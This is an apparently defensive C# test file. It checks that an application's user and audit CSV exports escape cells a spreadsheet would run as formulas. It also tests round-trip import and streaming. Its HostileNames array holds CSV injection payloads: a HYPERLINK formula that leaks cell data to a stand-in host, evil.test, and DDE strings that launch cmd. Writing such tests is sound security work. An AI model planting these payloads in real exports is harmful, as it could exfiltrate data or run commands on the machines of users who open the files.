using System.Net;
using System.Text;
using CsvHelper;
using Microsoft.Extensions.DependencyInjection;
using Opbx.Domain;
using Opbx.Domain.People;
using Opbx.Tests.Infrastructure;

namespace Opbx.Tests.Security;

/// <summary>Every CSV export neutralises cells a spreadsheet would run as a formula, through the one shared writer, and still streams.</summary>
[Collection(AppCollection.Name)]
public sealed class CsvInjectionTests(OpbxApp app)
{
    /// <summary>Names a person may really have (single-line text), each of which Excel would otherwise run.</summary>
    private static readonly string[] HostileNames =
    [
        "=HYPERLINK(\"https://evil.test/?\"&A1,\"Open\")",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
    ];

    [Fact]
    public async Task TheSharedWriterEscapesEveryFormulaStartAndLeavesOtherCellsAlone()
    {
        var cells = new[] { "=1+1", "+1", "-1", "@A1", "\t=1+1", "\r=1+1", "Ana", "", "1-2", "a=b" };
        var text = new StringWriter();
        await using (var csv = CsvExport.Create(text))
        {
            foreach (var cell in cells) csv.WriteField(cell);
            await csv.EndRecordAsync();
        }
        var read = ReadAll(text.ToString()).Single();
        Assert.Equal(["'=1+1", "'+1", "'-1", "'@A1", "'\t=1+1", "'\r=1+1", "Ana", "", "1-2", "a=b"], read);
        // What the importer reads back from its own export is what was exported.
        Assert.Equal(cells, read.Select(CsvExport.Unescape));
    }

    [Fact]
    public async Task TheUsersExportAndBothAuditExportsNeutraliseHostileNames()
    {
        var org = await app.CreateOrganizationAsync(configure: s => s.MaxApiKeys = 10);
        var id = org.Organization.Id;
        var actor = await app.AdminActorAsync();
        // People's names land in the users export; API key names are the target names of the audit entries.
        foreach (var name in HostileNames)
        {
            await app.InOrganizationAsync(id, async sp =>
            {
                await sp.GetRequiredService<MemberService>().AddAsync(actor, new NewMember
                {
                    Name = name,
                    Email = $"csv-{Guid.NewGuid():N}@example.test",
                    Role = "reporter",
                    SendInvitation = false,
                    Password = "Member-password-1",
                });
                await sp.GetRequiredService<Opbx.Domain.Access.ApiKeyService>().CreateAsync(
                    Opbx.Domain.Rules.Actor.Person(org.Owner.Id, false, OrgRole.Owner), name, ["users:read"]);
            });
        }
        using var owner = await WebSession.SignInAsync(app, org.Owner.Email!, "Owner-password-1");
        using var manager = await WebSession.SignInAsync(app, OpbxApp.AdminEmail, OpbxApp.AdminPassword);
        var exports = new (WebSession Session, string Path)[]
        {
            (owner, $"/Org/{id}/Users?handler=Csv&status=all"),
            (owner, $"/Org/{id}/Settings/Audit?handler=Csv"),
            (manager, $"/Platform/Audit?handler=Csv&org={id}"),
        };
        foreach (var (session, path) in exports)
        {
            var response = await session.GetAsync(path);
            Assert.Equal(HttpStatusCode.OK, response.StatusCode);
            Assert.Equal("text/csv", response.Content.Headers.ContentType?.MediaType);
            var rows = ReadAll(await response.Content.ReadAsStringAsync());
            foreach (var name in HostileNames)
                Assert.True(rows.Any(r => r.Contains("'" + name)), $"{path} lacks the escaped cell '{name}");
            var dangerous = rows.SelectMany(r => r).Where(c => c.Length > 0 && "=+-@\t\r".Contains(c[0])).ToList();
            Assert.True(dangerous.Count == 0, $"{path} has cells a spreadsheet would run: {string.Join(" | ", dangerous)}");
        }
    }

    [Fact]
    public async Task ImportingTheUsersExportChangesNothing()
    {
        var org = await app.CreateOrganizationAsync();
        var id = org.Organization.Id;
        var actor = await app.AdminActorAsync();
        await app.InOrganizationAsync(id, sp => sp.GetRequiredService<MemberService>().AddAsync(actor, new NewMember
        {
            Name = HostileNames[0],
            Email = $"-dash-{Guid.NewGuid():N}@example.test",
            Role = "reporter",
            SendInvitation = false,
            Password = "Member-password-1",
        }));
        using var owner = await WebSession.SignInAsync(app, org.Owner.Email!, "Owner-password-1");
        var exported = await owner.GetHtmlAsync($"/Org/{id}/Users?handler=Csv&status=all");
        var file = string.Join("\n", exported.Split('\n').Select(line => line.TrimEnd('\r')));
        var plan = await app.InOrganizationAsync(id, sp => sp.GetRequiredService<MemberCsv>().PlanAsync(
            Opbx.Domain.Rules.Actor.Person(org.Owner.Id, false, OrgRole.Owner), Encoding.UTF8.GetBytes(file)));
        Assert.Null(plan.FileError);
        Assert.All(plan.Rows, r => Assert.Equal(ImportOutcome.Unchanged, r.Outcome));
    }

    [Fact]
    public async Task ALargeExportIsStreamedNotBuiltInMemory()
    {
        var org = await app.CreateOrganizationAsync(configure: s => s.MaxUsers = 5_000);
        var id = org.Organization.Id;
        var file = new StringBuilder("name,email,role\n");
        for (var i = 0; i < 3_000; i++) file.Append($"=Person {i},bulk-{i}-{Guid.NewGuid():N}@example.test,reporter\n");
        var owner = Opbx.Domain.Rules.Actor.Person(org.Owner.Id, false, OrgRole.Owner);
        await app.InOrganizationAsync(id, sp => sp.GetRequiredService<MemberCsv>().ApplyAsync(owner, Encoding.UTF8.GetBytes(file.ToString()), false));
        using var session = await WebSession.SignInAsync(app, org.Owner.Email!, "Owner-password-1");
        using var response = await session.GetAsync($"/Org/{id}/Users?handler=Csv&status=all");
        // Sent as it is written (chunked), not buffered until its length is known.
        Assert.True(response.Headers.TransferEncodingChunked);
        Assert.False(response.Content.Headers.Contains("Content-Length"));
        var rows = ReadAll(await response.Content.ReadAsStringAsync());
        Assert.Equal(3_002, rows.Count);
        Assert.Contains(rows, r => r[0] == "'=Person 2999");
    }

    private static List<List<string>> ReadAll(string text)
    {
        var rows = new List<List<string>>();
        using var reader = CsvReader.FromText(text, CsvReaderOptions.Default with { HasHeader = false });
        while (reader.Read())
        {
            var row = new List<string>();
            for (var i = 0; i < reader.FieldCount; i++) row.Add(reader.GetString(i));
            rows.Add(row);
        }
        return rows;
    }
}
